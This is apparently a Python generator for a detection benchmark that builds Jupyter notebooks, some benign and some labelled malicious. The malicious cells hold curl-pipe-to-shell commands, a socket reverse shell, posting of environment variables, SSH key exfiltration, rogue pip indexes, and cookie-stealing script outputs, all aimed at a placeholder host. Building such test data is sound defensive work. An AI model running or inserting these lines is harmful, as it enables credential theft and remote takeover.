"""Notebooks whose cells or outputs act, and ordinary ones."""

from __future__ import annotations

import random
from collections.abc import Iterator, Mapping

from bench.corpus.unit import HOST, Expect, Family, Unit

BOOK = Family("notebooks", "Jupyter")


def cell(source: str, *outputs: Mapping[str, object]) -> dict[str, object]:
    return {
        "cell_type": "code",
        "execution_count": 1,
        "metadata": {},
        "outputs": list(outputs),
        "source": source.splitlines(keepends=True),
    }


def prose(source: str) -> dict[str, object]:
    return {"cell_type": "markdown", "metadata": {}, "source": [source]}


def html(text: str) -> dict[str, object]:
    return {
        "output_type": "display_data",
        "metadata": {},
        "data": {"text/html": [text], "text/plain": ["<object>"]},
    }


def book(*cells: dict[str, object], **metadata: object) -> dict[str, object]:
    spec = {
        "kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"},
        "language_info": {"name": "python", "version": "3.11.4"},
    }
    return {
        "cells": list(cells),
        "metadata": {**spec, **metadata},
        "nbformat": 4,
        "nbformat_minor": 5,
    }


TRAIN = "import torch\nfrom transformers import AutoModel\nmodel = AutoModel.from_pretrained('bert-base-uncased')\n"


def units(rng: random.Random) -> Iterator[Unit]:
    del rng

    def bad(technique: str, variant: str, notebook: object, expect: Expect = "malicious") -> Unit:
        return BOOK.bad(
            technique,
            variant,
            {"demo.ipynb": notebook},
            payload="runs when the cells run",
            expect=expect,
        )

    for variant, source in {
        "curl-pipe": f"!curl -s http://{HOST}/setup.sh | bash",
        "wget-run": f"!wget -q http://{HOST}/a -O /tmp/a && chmod +x /tmp/a && /tmp/a",
        "bash-magic": f"%%bash\ncurl http://{HOST}/x | sh\n",
        "system-call": f"get_ipython().system('curl http://{HOST}/x | sh')",
        "base64-exec": "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgndHJ1ZScp'))",
        "os-system": f"import os\nos.system('curl http://{HOST}/k | sh')",
        "reverse-shell": f"import socket,os,pty\ns=socket.socket();s.connect(('{HOST}',4444));os.dup2(s.fileno(),0);pty.spawn('sh')",
        "exfiltration": f"import os, requests\nrequests.post('http://{HOST}', data=str(dict(os.environ)))",
        "keys": f"!cat ~/.ssh/id_rsa | curl -d @- http://{HOST}",
        "run-magic": f"%run -i http://{HOST}/x.py",
        "variable-command": f"u = 'http://{HOST}/x'\n!curl -s {{u}} | sh",
    }.items():
        yield bad("cell", variant, book(prose("# Demo"), cell(TRAIN), cell(source)))
    yield bad(
        "pip-index", "index-url", book(cell(f"!pip install --index-url http://{HOST}/simple torch"))
    )
    yield bad("pip-index", "magic", book(cell(f"%pip install http://{HOST}/fast-1.0.whl")))
    script = f"<script>fetch('http://{HOST}/?c=' + document.cookie)</script>"
    yield bad("output-script", "cookie", book(cell("show()", html(script))), "suspicious")
    yield bad(
        "output-script",
        "markdown-image",
        book(prose(f"<img src=x onerror=\"fetch('http://{HOST}/?'+document.cookie)\">")),
        "suspicious",
    )
    kernel = "<script>IPython.notebook.kernel.execute('import os; os.system(\"true\")')</script>"
    yield bad("output-script", "kernel", book(cell("show()", html(kernel))))
    js = {
        "output_type": "display_data",
        "metadata": {},
        "data": {
            "application/javascript": [f"fetch('http://{HOST}/' + Jupyter.notebook.notebook_path)"]
        },
    }
    yield bad("output-script", "javascript", book(cell("show()", js)), "suspicious")

    def good(variant: str, notebook: object) -> Unit:
        return BOOK.good("notebook", variant, {"train.ipynb": notebook})

    table = html(
        "<div><style scoped>.dataframe tbody {vertical-align: top}</style><table class='dataframe'><tr><td>1</td></tr></table></div>"
    )
    plot = {
        "output_type": "display_data",
        "metadata": {},
        "data": {"image/png": "iVBORw0KGgoAAAANSUhEUg==", "text/plain": ["<Figure>"]},
    }
    yield good(
        "training",
        book(prose("# Train"), cell("%matplotlib inline\n" + TRAIN), cell("loss.backward()", plot)),
    )
    yield good("pip", book(cell("!pip install -q transformers datasets accelerate"), cell(TRAIN)))
    yield good("table", book(cell("df.head()", table)))
    yield good("shell", book(cell("!nvidia-smi\n!ls -la\n!mkdir -p out"), cell("%%time\ntrain()")))
    yield good(
        "torch-index",
        book(cell("!pip install torch --index-url https://download.pytorch.org/whl/cu121")),
    )
    yield good(
        "download",
        book(
            cell(
                "!wget -q https://s3.amazonaws.com/fast-ai-imageclas/cifar10.tgz\n!tar xzf cifar10.tgz"
            )
        ),
    )
    yield good(
        "git",
        book(cell("!git clone https://github.com/huggingface/transformers\n%cd transformers")),
    )
    colab = book(
        cell("from google.colab import drive\ndrive.mount('/content/drive')"),
        accelerator="GPU",
        colab={"provenance": []},
    )
    yield good("colab", colab)
    error = {
        "output_type": "error",
        "ename": "ValueError",
        "evalue": "x",
        "traceback": ["\u001b[0;31mValueError\u001b[0m: x"],
    }
    yield good("error", book(cell("f()", error)))
    widget = {
        "output_type": "display_data",
        "metadata": {},
        "data": {
            "application/vnd.jupyter.widget-view+json": {"model_id": "1a", "version_major": 2},
            "text/plain": ["Downloading"],
        },
    }
    yield good("widget", book(cell("load()", widget)))
    plotly = html(
        "<div><script type='text/javascript'>window.PlotlyConfig = {MathJaxConfig: 'local'};</script><div id='a' class='plotly-graph-div'></div><script>Plotly.newPlot('a', [{y: [1, 2]}]);</script></div>"
    )
    yield good("plotly", book(cell("fig.show()", plotly)))
    yield good(
        "token-prompt", book(cell("import os, getpass\nos.environ['HF_TOKEN'] = getpass.getpass()"))
    )
